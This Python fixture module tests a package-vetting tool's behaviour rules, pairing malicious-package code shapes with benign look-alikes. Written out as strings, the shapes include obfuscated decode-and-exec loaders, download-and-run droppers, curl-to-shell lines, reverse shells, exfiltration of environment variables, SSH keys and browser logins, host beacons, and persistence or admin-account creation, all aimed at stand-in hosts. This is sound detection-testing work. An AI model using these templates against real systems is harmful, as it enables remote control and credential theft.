"""Per-rule fixtures for the behavior rules (see fixtures.py for the conventions).

Harmless by construction: payloads decode to ``print("FIXTURE_OK")``, hosts are
on ``*.example.invalid``, every file exists only as in-memory bytes.
"""

from __future__ import annotations

import base64
import zlib

from depvet.files import FileRole, FileView
from tests.builders import HARMLESS_B64, HARMLESS_PAYLOAD
from tests.detectors.fixture_types import RuleFixtures

C2 = "https://c2.example.invalid/collect"
HARMLESS_ZLIB_B64 = base64.b64encode(zlib.compress(HARMLESS_PAYLOAD.encode())).decode()
HARMLESS_HEX = HARMLESS_PAYLOAD.encode().hex()
HARMLESS_CHRS = ", ".join(str(ord(c)) for c in HARMLESS_PAYLOAD)
HARMLESS_REVERSED = HARMLESS_PAYLOAD[::-1]
_XOR_KEY = "6137787373"
HARMLESS_XORED = "".join(
    chr(ord(c) ^ ord(_XOR_KEY[i % len(_XOR_KEY)])) for i, c in enumerate(HARMLESS_PAYLOAD)
)
# exec under another name, fed by an XOR loop: the shape of a family of colour-library fakes.
XOR_ALIASED_EXEC = f"""\
color_print = exec
blob = {HARMLESS_XORED!r}
key = {_XOR_KEY!r}
out = ""
for i in range(len(blob)):
    out += chr(ord(blob[i]) ^ ord(key[i % len(key)]))
color_print(out)
"""


def module(text: str, path: str = "pkg/__init__.py") -> FileView:
    """A module of an installed package."""
    return FileView(path=path, role=FileRole.PYTHON, data=text.encode())


def startup(text: str) -> FileView:
    """A sitecustomize.py at the top of site-packages."""
    return FileView(path="sitecustomize.py", role=FileRole.CUSTOMIZE, data=text.encode())


def setup_py(text: str) -> FileView:
    """A setup.py at the root of an sdist."""
    return FileView(path="pkg-1.0/setup.py", role=FileRole.SETUP, data=text.encode())


# -- decode → exec ------------------------------------------------------------------------------

DECODE_EXEC_SHAPES = {
    "b64": f"import base64\nexec(base64.b64decode('{HARMLESS_B64}'))\n",
    "zlib": (
        f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{HARMLESS_ZLIB_B64}')))\n"
    ),
    "marshal": "import marshal\nexec(marshal.loads(b'\\xe3\\x00'))\n",
    "rot13": "import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n",
    "fromhex": f"exec(bytes.fromhex('{HARMLESS_HEX}'))\n",
    "chr-join": f"exec(''.join(chr(c) for c in [{HARMLESS_CHRS}]))\n",
    "reversed": f"code = '{HARMLESS_REVERSED}'\nexec(code[::-1])\n",
    "lambda-chain": (
        "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
        f"exec((_)(b'{HARMLESS_ZLIB_B64[::-1]}'))\n"
    ),
    "aliased": (
        f"from base64 import b64decode as d\nimport builtins as b\nb.exec(d('{HARMLESS_B64}'))\n"
    ),
}
DECODE_EXEC_IN_FUNCTION = f"""\
import base64

def run_plugin():
    exec(base64.b64decode("{HARMLESS_B64}"))
"""
DECODE_EXEC_REACHED = f"""\
import base64

def _init():
    exec(base64.b64decode("{HARMLESS_B64}"))

_init()
"""
VERSION_EXEC = """\
import os
about = {}
with open(os.path.join(os.path.dirname(__file__), "__version__.py")) as f:
    exec(f.read(), about)
exec(open("version.py").read())
exec("VERSION = '1.0'")
"""
B64_NOT_EXECUTED = f"""\
import base64
ICON = base64.b64decode("{HARMLESS_B64}")
"""

# -- dynamic exec ---------------------------------------------------------------------------------

EXEC_DYNAMIC = """\
import os
exec(os.environ.get("PKG_BOOT", ""))
"""
EXEC_TEMPLATE_IN_FUNCTION = """\
def make_class(name, fields):
    src = "class %s:\\n    __slots__ = %r\\n" % (name, fields)
    ns = {}
    exec(src, ns)
    return ns[name]
"""

# -- download → execute ---------------------------------------------------------------------------

DOWNLOAD_EXEC_EVAL = f"""\
from urllib.request import urlopen
exec(urlopen("{C2}/stage2.py").read())
"""
DOWNLOAD_PYZ_RUN = f"""\
import subprocess, sys, urllib.request

def _bootstrap():
    data = urllib.request.urlopen("{C2}/tool.pyz").read()
    with open("/tmp/tool.pyz", "wb") as f:
        f.write(data)
    subprocess.Popen([sys.executable, "/tmp/tool.pyz"])

_bootstrap()
"""
DOWNLOAD_BINARY_CHMOD = f"""\
import os, requests
r = requests.get("{C2}/bin")
open("/tmp/.cache-helper", "wb").write(r.content)
os.chmod("/tmp/.cache-helper", 0o755)
os.system("/tmp/.cache-helper &")
"""
# An exception type read back by name from serialized data: the name is the caller's.
EXCEPTION_BY_NAME = """\
import builtins


def deserialize_exception(data):
    exc_type = data["type"]
    exc_cls = getattr(builtins, exc_type.removeprefix("builtins."))
    return exc_cls(data["message"])


DEFAULT_ERROR = deserialize_exception({"type": "builtins.ValueError", "message": "bad"})
"""
# A CLI whose command fetches a file: registered with its group, run only when asked for.
CLI_COMMAND_REGISTERED = """\
import click
import urllib.request


@click.group()
def cli():
    pass


@click.command()
@click.argument("url")
def fetch(url):
    data = urllib.request.urlopen(url).read()
    click.echo(len(data))


cli.add_command(fetch)
"""
# The same group with the command called at import as well: that runs.
CLI_COMMAND_CALLED = CLI_COMMAND_REGISTERED + f'fetch.callback("{C2}/x")\n'
# Commands handed to their group when it is made: registered, run only when asked for.
CLI_COMMANDS_IN_GROUP = """\
import click
import urllib.request


@click.command()
@click.argument("url")
def fetch(url):
    data = urllib.request.urlopen(url).read()
    click.echo(len(data))


@click.group(commands={"fetch": fetch})
def cli():
    pass
"""
# The same group given what a call returns: the call runs while the module loads.
CLI_COMMANDS_CALLED_IN_GROUP = CLI_COMMANDS_IN_GROUP.replace(
    'commands={"fetch": fetch}', f'commands=[fetch.callback("{C2}/x")]'
)
# A dropper split in two functions: what one downloads, the other runs by the same name.
DOWNLOAD_THEN_START = f"""\
import os, subprocess, urllib.request

HELPER = os.path.join(os.path.expanduser("~"), ".cache", "helper")


def fetch():
    urllib.request.urlretrieve("{C2}/helper", HELPER)


def start():
    os.chmod(HELPER, 0o755)
    subprocess.Popen([HELPER])


fetch()
start()
"""
# A build that downloads a source archive in one function and runs make in another.
FETCH_SOURCES_THEN_BUILD = f"""\
import os, subprocess, tarfile, urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))


def fetch_sources():
    archive = os.path.join(HERE, "libfoo-1.2.tgz")
    urllib.request.urlretrieve("{C2}/libfoo-1.2.tgz", archive)
    with tarfile.open(archive) as tar:
        tar.extractall(HERE)


def build():
    subprocess.run("make -j4 install", shell=True, check=True, cwd=os.path.join(HERE, "libfoo"))


fetch_sources()
build()
"""
DOWNLOAD_ONLY_SAVE = f"""\
import requests

def fetch_dataset(path):
    r = requests.get("{C2}/data.csv")
    with open(path, "wb") as f:
        f.write(r.content)
"""
FRONTED_BEACON = """\
import base64
import os
from urllib import request

encoded = base64.b64encode(os.getcwd().encode()).decode()
request.urlopen(
    request.Request(
        "https://pypi.example.invalid/reqs?d=" + encoded,
        headers={"Host": "collector.example.invalid"},
    )
)
"""

FRONTED_RUNTIME = """\
import requests


def report(data):
    requests.post(
        "https://cdn.example.invalid/upload", data=data, headers={"Host": "drop.example.invalid"}
    )
"""

# AWS STS signing names its own host; a client reaching a server by IP names the site.
HOST_HEADER_SAME_SITE = """\
import requests


def get_caller_identity(body):
    return requests.post(
        "https://sts.amazonaws.com/", data=body, headers={"Host": "sts.amazonaws.com"}
    )
"""

HOST_HEADER_BY_IP = """\
import requests


def probe():
    return requests.get("https://192.0.2.10/health", headers={"Host": "service.example.invalid"})
"""


# Downloaded text saved as a module in site-packages, for a later import to run.
DOWNLOAD_PLANTED_MODULE = """\
import os
import threading

import requests


def init():
    code = requests.get("https://paste.example.invalid/raw/x").text
    path = os.path.expanduser("~/.local/lib/python3/site-packages/initializer")
    os.makedirs(path, exist_ok=True)
    with open(path + "/__init__.py", "w") as handle:
        handle.write(code)


threading.Thread(target=init).start()
"""


# Commands read from a socket and run by a shell: remote control (a documentation address).
RECEIVED_SHELL_COMMAND = """\
import socket
import subprocess

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.1", 4444))
while True:
    command = s.recv(1024).decode()
    done = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE)
    s.send(done.stdout.read())
"""

# A server that logs what it received with a fixed command: nothing received is run.
RECEIVED_BYTES_COUNTED = """\
import subprocess


def serve(sock):
    data = sock.recv(1024)
    subprocess.run(["logger", "received", str(len(data))])
"""

# exec of what a cipher decrypted (a key and a token of the right shape, never run).
FERNET_EXEC = """\
from cryptography.fernet import Fernet

exec(Fernet(b"a" * 43 + b"=").decrypt(b"gAAAAABfixture"))
"""


IMPORT_PIP_INSTALL = 'import os\n\nos.system("pip install helper-payload pyotp")\n'
IMPORT_PIP_MODULE = (
    "import subprocess\nimport sys\n\n"
    'subprocess.check_call([sys.executable, "-m", "pip", "install", "helper-payload"])\n'
)
# setup.py pip-installing, at install time, a project hardly anyone uses: a second stage.
SETUP_PIP_OBSCURE = (
    "import subprocess\nfrom setuptools import setup\n"
    'subprocess.getoutput("pip install helper-payload -U")\n'
    'setup(name="x", version="1.0")\n'
)
# The pybind11 example's setup.py: pip-installs the build dependency it imports.
SETUP_PIP_BUILD_DEPENDENCY = """\
import subprocess, sys
from setuptools import setup

class get_pybind_include:
    def __init__(self, user=False):
        try:
            import pybind11
        except ImportError:
            if subprocess.call([sys.executable, "-m", "pip", "install", "pybind11>=2.2"]):
                raise RuntimeError("pybind11 install failed.")
        self.user = user

get_pybind_include()
setup(name="x", version="1.0")
"""
# A plugin installer that runs pip only when asked; a hint printed by echo.
PIP_INSTALL_ON_REQUEST = (
    "import subprocess\nimport sys\n\n\ndef install_extra(name):\n"
    '    subprocess.check_call([sys.executable, "-m", "pip", "install", name])\n'
)
PIP_INSTALL_MESSAGE = 'import os\n\nos.system("echo to upgrade, run pip install -U pkg")\n'
# pip installing the source tree it runs in: no package from anywhere else.
PIP_INSTALL_HERE = 'import os\n\nos.system("pip install -e .")\n'


IMPORT_UPLOAD_FILES = """\
import requests

files = {"upload": open("notes.txt", "rb")}
requests.post("https://hook.example.invalid/drop", files=files, data={"content": "x"})
"""
SDK_UPLOAD_ON_REQUEST = """\
import requests


def upload(path):
    with open(path, "rb") as handle:
        return requests.post("https://api.example.invalid/v1/files", files={"file": handle})
"""
IMPORT_POST_JSON = (
    'import requests\n\nrequests.post("https://api.example.invalid/ping", json={"v": 1})\n'
)
POST_TO_DECODED_URL = """\
import base64

import requests


def send(data):
    target = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuaW52YWxpZA==").decode()
    requests.post(target, data=data)
"""
# An image loader: a data URI is decoded into an in-memory file, a URL is fetched into one.
IMAGE_LOADER = """\
import base64, io

import requests


def load_image(source):
    if source.startswith("data:image/"):
        source = io.BytesIO(base64.b64decode(source.split(",", 1)[1]))
    if isinstance(source, str) and source.startswith(("http://", "https://")):
        with requests.get(source, timeout=10) as response:
            source = io.BytesIO(response.content)
    return source
"""
# The same loader shape, where another binding of the name is a decoded address.
LOADER_WITH_DECODED_URL = """\
import base64, io

import requests


def fetch(source):
    if source.startswith("data:"):
        source = io.BytesIO(base64.b64decode(source.split(",", 1)[1]))
    else:
        source = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuaW52YWxpZA==").decode()
    return requests.get(source)
"""
# Decoding a payload is not hiding a destination.
DECODED_PAYLOAD_TO_PLAIN_URL = """\
import base64

import requests


def send(blob):
    requests.post("https://api.example.invalid/v1/items", data=base64.b64decode(blob))
"""
IMPORT_FETCH_EXE = (
    "import requests\n\n"
    'payload = requests.get("https://cdn.example.invalid/attachments/1/2/helper.exe?ex=65")\n'
)
FETCH_EXE_ON_REQUEST = """\
import requests


def download_installer(version):
    return requests.get(f"https://downloads.example.invalid/{version}/setup.exe").content
"""
IMPORT_FETCH_JSON = (
    'import requests\n\nCONFIG = requests.get("https://api.example.invalid/config.json").json()\n'
)


DOWNLOAD_EXE_RUN = """\
import os
import requests


def main():
    reply = requests.get("https://cdn.example.invalid/attachments/1/launcher.exe")
    open("launcher.exe", "wb").write(reply.content)
    os.system("launcher.exe")
"""

DOWNLOAD_BAT_START = """\
import os
import urllib.request


def update():
    data = urllib.request.urlopen("https://files.example.invalid/u").read()
    with open(os.path.join(os.getenv("TEMP"), "update.bat"), "wb") as handle:
        handle.write(data)
    os.startfile(os.path.join(os.getenv("TEMP"), "update.bat"))
"""

# A tool that fetches a platform's driver under a name it builds, and makes it executable.
DOWNLOAD_DRIVER_COMPUTED_NAME = """\
import os
import requests


def install_driver(version):
    name = f"driver_{version}" + (".exe" if os.name == "nt" else "")
    reply = requests.get(f"https://drivers.example.invalid/{version}/{name}")
    with open(name, "wb") as handle:
        handle.write(reply.content)
    os.chmod(name, 0o755)
"""


DOWNLOAD_TOOL_RUNTIME = f"""\
import os, stat, subprocess, urllib.request

def install_helper(dest):
    urllib.request.urlretrieve("{C2}/helper", dest)
    os.chmod(dest, stat.S_IRWXU)
    subprocess.check_call([dest, "--version"])
"""

# -- dropper (litellm proxy_server.py shape) ----------------------------------------------------

DROPPER = f"""\
import base64, os, subprocess, sys, tempfile
_p = os.path.join(tempfile.gettempdir(), "p.py")
with open(_p, "w") as _f:
    _f.write(base64.b64decode("{HARMLESS_B64}").decode())
subprocess.run([sys.executable, _p])
"""
WRITES_DECODED_ICON = f"""\
import base64

def save_icon(path):
    with open(path, "wb") as f:
        f.write(base64.b64decode("{HARMLESS_B64}"))
"""

# -- processes at import -------------------------------------------------------------------------

IMPORT_GIT = """\
import subprocess
try:
    REVISION = subprocess.check_output(["git", "rev-parse", "HEAD"]).decode().strip()
except Exception:
    REVISION = "unknown"
"""
CLI_SUBPROCESS = """\
import subprocess, sys

def main():
    subprocess.run(["git", "status"], check=True)

if __name__ == "__main__":
    main()
    subprocess.run(["ls"])
"""
IMPORT_CURL = f"""\
import os
os.system("curl -fsSL {C2}/x.sh | sh")
"""
# A release script at the top of an sdist: builds, then publishes to the index it names.
IMPORT_PUBLISH = """\
from subprocess import Popen
Popen("python setup.py sdist bdist_wheel", shell=True).wait()
UPLOAD = "python -m twine upload --repository-url https://upload.pypi.org/legacy/ dist/*"
Popen(UPLOAD, shell=True).wait()
"""
# The same publish step with a download chained after it.
IMPORT_PUBLISH_THEN_FETCH = f"""\
import os
os.system("twine upload dist/* && curl -fsSL {C2}/x.sh -o /tmp/x.sh")
"""
# ez_setup.py picks a downloader by asking which clients are installed.
CURL_VERSION_PROBE = """\
import os
import subprocess


def has_curl():
    cmd = ["curl", "--version"]
    with open(os.path.devnull, "wb") as devnull:
        try:
            subprocess.check_call(cmd, stdout=devnull, stderr=devnull)
        except Exception:
            return False
    return True


CURL = has_curl()
os.system("wget --version")
"""
IMPORT_POWERSHELL_LIST = """\
import subprocess
cmd = ["powershell", "-NoP", "-C", "Invoke-WebRequest -Uri x -OutFile y"]
subprocess.Popen(cmd)
"""
RUNTIME_CURL = f"""\
import subprocess

def update():
    subprocess.check_call(["curl", "-o", "x", "{C2}"])
"""

# -- network at import ---------------------------------------------------------------------------

IMPORT_URLOPEN = f"""\
import urllib.request
CONFIG = urllib.request.urlopen("{C2}/config.json").read()
"""
SOCKET_AT_IMPORT = """\
import socket
_s = socket.socket()
_s.connect(("c2.example.invalid", 443))
"""
SDK_CLIENT = """\
import os
import requests

API_KEY = os.environ.get("EXAMPLE_API_KEY")

class Client:
    def __init__(self, key=API_KEY):
        self.key = key

    def get(self, path):
        return requests.get("https://api.example.invalid" + path,
                            headers={"Authorization": "Bearer " + self.key})
"""

# -- environment ---------------------------------------------------------------------------------

ENV_TO_FILE = """\
import json, os
with open("/tmp/env.json", "w") as f:
    f.write(json.dumps(dict(os.environ)))
"""
ENV_SUBPROCESS = """\
import os, subprocess

def run_tool(args):
    env = dict(os.environ)
    env["PYTHONPATH"] = "."
    return subprocess.run(args, env=env)
"""
ENV_POST = f"""\
import os, requests
requests.post("{C2}", json=dict(os.environ))
"""
ENV_B64_GET = f"""\
import base64, json, os
from urllib.request import urlopen

def report():
    data = base64.b64encode(json.dumps({{k: v for k, v in os.environ.items()}}).encode())
    urlopen("{C2}?d=" + data.decode())

report()
"""
ENV_ITEMS_LOOP = """\
import os, socket
payload = {}
for k, v in os.environ.items():
    payload[k] = v
s = socket.create_connection(("c2.example.invalid", 443))
s.sendall(str(payload).encode())
"""
ENV_ONE_KEY = """\
import os, requests

def call():
    token = os.environ["EXAMPLE_TOKEN"]
    return requests.get("https://api.example.invalid/me", headers={"X-Token": token})
"""

# -- host beacon ---------------------------------------------------------------------------------

BEACON_SETUP = f"""\
import getpass, os, socket, requests
from setuptools import setup
requests.get("{C2}", params={{"h": socket.gethostname(), "u": getpass.getuser(),
                             "d": os.getcwd()}})
setup(name="x", version="99.0")
"""
# Recon commands' output is the same facts: who, where, what is here, the environment.
BEACON_COMMAND_OUTPUT = f"""\
import os, urllib.parse, urllib.request
from setuptools import setup
who = os.popen("whoami").read()
host = os.popen("hostname && uname -a").read()
listing = os.popen("ls -la ../").read()
data = urllib.parse.urlencode({{"who": who, "host": host, "ls": listing}}).encode()
urllib.request.urlopen("{C2}", data=data)
setup(name="x", version="99.0")
"""
ENV_COMMAND_OUTPUT = f"""\
import subprocess, requests
requests.post("{C2}", data=subprocess.check_output("env", shell=True))
"""
# A build step's output sent to the project's own service is no host fact.
BUILD_COMMAND_OUTPUT = """\
import subprocess, requests
revision = subprocess.check_output(["git", "rev-parse", "HEAD"], text=True).strip()
arch = subprocess.check_output(["uname", "-m"], text=True).strip()
requests.post("https://builds.example.invalid/api", json={"rev": revision, "arch": arch})
"""
# The shell fills host facts into a network client's command line.
SHELL_LINE_BEACON = f"""\
import subprocess
from setuptools import setup
subprocess.run('curl -X POST -H "Who: $(whoami)" -H "Host: $(hostname)" -d "$(ls -la)" '
               '{C2}', shell=True)
setup(name="x", version="99.0")
"""
# A download to a path the shell makes from the working folder.
SHELL_DOWNLOAD_TO_CWD = """\
import subprocess
subprocess.run('curl -L https://releases.example.invalid/lib.tar.gz -o "$(pwd)/lib.tar.gz"',
               shell=True)
"""
# Host-facts functions handed to a wrapper that calls them (and swallows their errors).
BEACON_THROUGH_CALLER = f"""\
import json, os, socket
from urllib import request

def try_call(func, *args):
    try:
        return func(*args)
    except Exception:
        return "err"

data = json.dumps({{"h": try_call(socket.getfqdn), "c": try_call(os.getcwd)}})
request.urlopen(request.Request("{C2}?d=" + data))
"""
# A host-facts function handed to a helper that only names it.
HOST_FUNCTION_NAMED = """\
import socket, requests

def describe(func):
    return func.__module__ + "." + func.__name__

requests.post("https://registry.example.invalid/api", json={"probe": describe(socket.getfqdn)})
"""
# Host facts written to a socket wrapped in TLS.
BEACON_TLS_SOCKET = """\
import getpass, socket, ssl
context = ssl.create_default_context()
raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
tls = context.wrap_socket(raw, server_hostname="c2.example.invalid")
tls.connect(("c2.example.invalid", 443))
tls.send(("GET /l?u=" + getpass.getuser() + " HTTP/1.1\\r\\n\\r\\n").encode())
"""
# The host's node name, read from uname() by field or by index, in a request at install.
BEACON_UNAME_NODE = f"""\
import os, platform, urllib.request
from setuptools import setup
urllib.request.urlopen("{C2}?n=" + platform.uname().node + "&m=" + os.uname()[1])
setup(name="x", version="99.0")
"""
# The kind of machine (not which one) picks a prebuilt binary to download at install.
PREBUILT_FOR_MACHINE = """\
import os, platform, sys, urllib.request
from setuptools import setup
arch = platform.uname().machine
url = f"https://releases.example.invalid/v1/lib-{sys.platform}-{arch}-{os.uname()[4]}.tar.gz"
urllib.request.urlretrieve(url, "lib.tar.gz")
setup(name="x", version="1.0")
"""
# A local function that sends what it is given, called with host facts on import.
BEACON_THROUGH_HELPER = f"""\
import getpass, platform, urllib.request

def request(url, data=None, headers=None):
    req = urllib.request.Request(url=url, data=data, headers=headers or {{}})
    return urllib.request.urlopen(req, timeout=10).read()

def init():
    info = getpass.getuser() + "|" + platform.node()
    request("{C2}?t=" + info)

init()
"""
# A login helper: the registry password read from its own config, sent to that registry.
LOGIN_HELPER = """\
import base64, json, os, requests

def login(username, password):
    reply = requests.post("https://hub.example.invalid/v2/users/login",
                          json={"username": username, "password": password})
    return reply.json()["token"]

def main():
    with open(os.path.expanduser("~/.docker/config.json")) as f:
        auth = json.load(f)["auths"]["https://hub.example.invalid"]["auth"]
    username, password = base64.b64decode(auth).decode().split(":", 1)
    return login(username, password)
"""
# A launcher that hands the child's environment to a helper polling the child's server.
ENV_TO_POLLING_HELPER = """\
import os, subprocess, httpx

def wait_for_server(url, process, env=None):
    if env:
        print(" ".join(f"{k}={v}" for k, v in env.items()))
    while httpx.get(url + "/v1/models").status_code != 200:
        process.poll()

def launch(command, env):
    process = subprocess.Popen(command, env=env)
    return process, 8000

def start():
    env = dict(os.environ)
    process, port = launch(["server"], env=env)
    wait_for_server(f"http://localhost:{port}", process, env=env)
"""
# The same helper, with host facts passed to what it does not send: a cache folder.
HELPER_NOT_SENDING_IT = """\
import os, urllib.request

def fetch(url, folder):
    data = urllib.request.urlopen(url).read()
    with open(os.path.join(folder, "index.json"), "wb") as f:
        f.write(data)

fetch("https://index.example.invalid/index.json", os.getcwd())
"""
# A download helper whose file name is made of the working folder: the name stays here.
DOWNLOAD_HELPER_TO_CWD = """\
import os, urllib.request

def download(url, path):
    urllib.request.urlretrieve(url, path)

download("https://models.example.invalid/vocab.txt", os.path.join(os.getcwd(), "vocab.txt"))
"""
# A document loader: a relative path is made a file: URI under the working folder, then
# opened with the same call that fetches http: references.
FILE_URI_UNDER_CWD = """\
import os, pathlib
from urllib.request import urlopen

def read_document(uri):
    if "://" not in uri:
        uri = pathlib.Path(os.path.join(os.getcwd(), uri)).as_uri()
    with urlopen(uri) as conn:
        return conn.read()

class Loader:
    def __init__(self, default):
        self.default = default

loader = Loader(read_document)
"""
BEACON_DNS = """\
import socket, platform
label = platform.node().replace(".", "-") + ".c2.example.invalid"
socket.gethostbyname(label)
"""
BEACON_IMPORT_ENV_USER = f"""\
import os
from urllib.request import urlopen
urlopen("{C2}/" + os.environ.get("USER", "?"))
"""
LOCAL_IP = """\
import socket
HOSTNAME = socket.gethostname()
LOCAL_IP = socket.gethostbyname(HOSTNAME)
"""
TELEMETRY_RUNTIME = """\
import socket, requests

def send_event(event):
    event["server_name"] = socket.gethostname()
    requests.post("https://errors.example.invalid/api/store", json=event)
"""

# -- credentials ---------------------------------------------------------------------------------

READ_SSH_KEY = """\
import os

def load_key():
    with open(os.path.expanduser("~/.ssh/id_rsa")) as f:
        return f.read()
"""
READ_AWS_PATHLIB = """\
from pathlib import Path
CREDS = (Path.home() / ".aws/credentials").read_text()
"""
STEAL_SSH = f"""\
import os, requests

def grab():
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    requests.post("{C2}", data={{"k": key}})

grab()
"""
STEAL_BROWSER = """\
import os, sqlite3, shutil, socket

def go():
    db = os.path.join(os.getenv("LOCALAPPDATA"), "Google", "Chrome", "User Data", "Default",
                      "Login Data")
    rows = sqlite3.connect(db).execute("select * from logins").fetchall()
    s = socket.create_connection(("c2.example.invalid", 443))
    s.sendall(repr(rows).encode())
"""
HARVEST = """\
import glob, os
TARGETS = [
    "~/.ssh/id_*",
    "~/.aws/credentials",
    "~/.kube/config",
    "~/.config/discord/Local Storage/leveldb",
]

def collect():
    out = []
    for pattern in TARGETS:
        out.extend(glob.glob(os.path.expanduser(pattern)))
    return out
"""
SSH_CONFIG_DOC = '''\
"""Reads ~/.ssh/config for host aliases (see ssh_config(5)); keys stay with the agent."""
import os

def ssh_config_path():
    return os.path.expanduser("~/.ssh/config")

def hosts():
    with open(ssh_config_path()) as f:
        return [line.split()[1] for line in f if line.startswith("Host ")]
'''
AWS_SDK_LIKE = """\
import os, configparser

def load_credentials():
    path = os.path.expanduser("~/.aws/credentials")
    parser = configparser.ConfigParser()
    parser.read(path)
    return parser
"""

# -- monkeypatching ------------------------------------------------------------------------------

PATCH_INIT = """\
from somesdk import Client
_original = Client.__init__

def _init(self, *args, **kwargs):
    _original(self, *args, **kwargs)
    _seen.append(kwargs.get("token"))

_seen = []
Client.__init__ = _init
"""
PATCH_INIT_NETWORK = f"""\
import urllib.request
from somesdk import CryptoClient
_orig = CryptoClient.__init__

def _hook(self, token, *a, **kw):
    urllib.request.urlopen("{C2}?t=" + token)
    _orig(self, token, *a, **kw)

setattr(CryptoClient, "__init__", _hook)
"""
LOCAL_CLASS_PATCH = """\
class Point:
    pass

def _init(self, x=0):
    self.x = x

Point.__init__ = _init
"""
PATCH_IN_FUNCTION = """\
import flask

def setup_once():
    old = flask.Flask.__call__
    def patched(self, environ, start_response):
        return old(self, environ, start_response)
    flask.Flask.__call__ = patched
"""

# -- obfuscated imports --------------------------------------------------------------------------

OBF_IMPORT_CHR = """\
m = __import__("".join(map(chr, [111, 115])))
getattr(m, "".join(map(chr, [115, 121, 115, 116, 101, 109])))("id")
"""
OBF_IMPORT_B64 = """\
import base64, importlib
mod = importlib.import_module(base64.b64decode("b3M=").decode())
"""
OBF_GETATTR_BUILTINS = """\
import builtins
fn = getattr(builtins, "cexe"[::-1])
"""
# A text reversed, edited and reversed back reads as written: the last "(" becomes "[".
LAST_OCCURRENCE_REPLACED = """\
import enum


def parse(kind):
    text = open("kind.txt").read().strip().replace(")", "]", 1)
    as_list = text[::-1].replace("(", "[", 1)[::-1]
    return getattr(kind, as_list)
"""
PLUGIN_LOADER = """\
import importlib

def load(name):
    return importlib.import_module("pkg.plugins." + name)

def handler(obj, kind):
    return getattr(obj, "visit_" + kind)
"""

# -- reverse shell -------------------------------------------------------------------------------

REVERSE_DUP2 = """\
import os, socket, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("c2.example.invalid", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
"""
REVERSE_PTY = """\
import os, pty, socket

def shell():
    s = socket.create_connection(("c2.example.invalid", 4444))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/bash")
"""
REVERSE_POPEN = """\
import socket, subprocess
s = socket.socket()
s.connect(("c2.example.invalid", 4444))
subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
"""
PTY_TERMINAL = """\
import os, pty, socket

def spawn_terminal(argv):
    pid, fd = pty.fork()
    if pid == 0:
        os.execvp(argv[0], argv)
    os.dup2(fd, 0)
    return fd

def ping(host):
    return socket.create_connection((host, 80))
"""

# -- steganography -------------------------------------------------------------------------------

STEGO_WAV = f"""\
import base64, io, wave, urllib.request

def _load():
    raw = urllib.request.urlopen("{C2}/ring.wav").read()
    with wave.open(io.BytesIO(raw)) as w:
        frames = w.readframes(w.getnframes())
    key = 0x5A
    data = base64.b64decode(bytes(b ^ key for b in frames))
    exec(data)

_load()
"""
STEGO_PIXELS = """\
from PIL import Image
img = Image.open("logo.png")
bits = "".join(str(p[0] & 1) for p in img.getdata())
code = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))
exec(code)
"""
AUDIO_TOOL = """\
import wave

def duration(path):
    with wave.open(path) as w:
        frames = w.readframes(w.getnframes())
        return len(frames) / w.getframerate()
"""

# -- persistence ---------------------------------------------------------------------------------

SYSTEMD_UNIT = """\
import os, subprocess
unit = os.path.expanduser("~/.config/systemd/user/telemetry.service")
os.makedirs(os.path.dirname(unit), exist_ok=True)
with open(unit, "w") as f:
    f.write("[Service]\\nExecStart=/usr/bin/python3 /tmp/x.py\\n")
subprocess.run(["systemctl", "--user", "enable", "--now", "telemetry.service"])
"""
BASHRC_APPEND = """\
import os
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("python3 ~/.cache/x.py &\\n")
"""
RUN_KEY = """\
import subprocess
subprocess.call('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run '
                '/v updater /t REG_SZ /d "pythonw x.pyw" /f', shell=True)
"""
ACCOUNT_ADD = """\
import os
os.system("net user support P4ssw0rd! /add && net localgroup administrators support /add")
"""
# Listing the accounts is no new account.
ACCOUNT_LIST = """\
import subprocess
users = subprocess.check_output(["net", "user"], text=True)
"""
SHELL_SETUP_TOOL = """\
import os

def ensure_path(line):
    rc = os.path.expanduser("~/.bashrc")
    with open(rc, "a") as f:
        f.write(line + "\\n")
"""
# A CLI's --install-completion option: its callback writes the rc file when the user asks.
COMPLETION_OPTION = """\
import os

import click


def install_completion(ctx, param, value):
    if value:
        with open(os.path.expanduser("~/.bashrc"), "a") as rc:
            rc.write('eval "$(_TOOL_COMPLETE=bash_source tool)"\\n')


option = click.option("--install-completion", is_flag=True, callback=install_completion)
"""
READ_BASHRC = """\
import os
with open(os.path.expanduser("~/.bashrc")) as f:
    ALIASES = [l for l in f if l.startswith("alias")]
"""


# An SSH login at import sends the local user name to the server the user chose.
SSH_LOGIN = (
    "import getpass\nimport paramiko\n\nclient = paramiko.SSHClient()\n"
    "client.connect('bastion.example.invalid', username=getpass.getuser())\n"
)
# hostname + ".local" is a multicast-DNS lookup on the local network.
MDNS_LOOKUP = "import socket\n\nIPS = socket.gethostbyname_ex(socket.gethostname() + '.local')[2]\n"

DECODED_SHELL = (
    "import os\nfrom base64 import b64decode as b64d\n\n"
    "os.system(b64d('ZWNobyBGSVhUVVJFX09L'))\n"  # echo FIXTURE_OK
)
LITERAL_SHELL = "import os\n\nos.system('echo FIXTURE_OK')\n"
# A debugger starting its helper with a fresh access token: random bytes hex-encoded
# for the command line (encoding to hex hides nothing), at import time.
TOKEN_ON_COMMAND_LINE = (
    "import codecs, os, subprocess, sys\n\n"
    "token = codecs.encode(os.urandom(32), 'hex').decode('ascii')\n"
    "helper = subprocess.Popen([sys.executable, '-m', 'helper', '--token', token])\n"
)

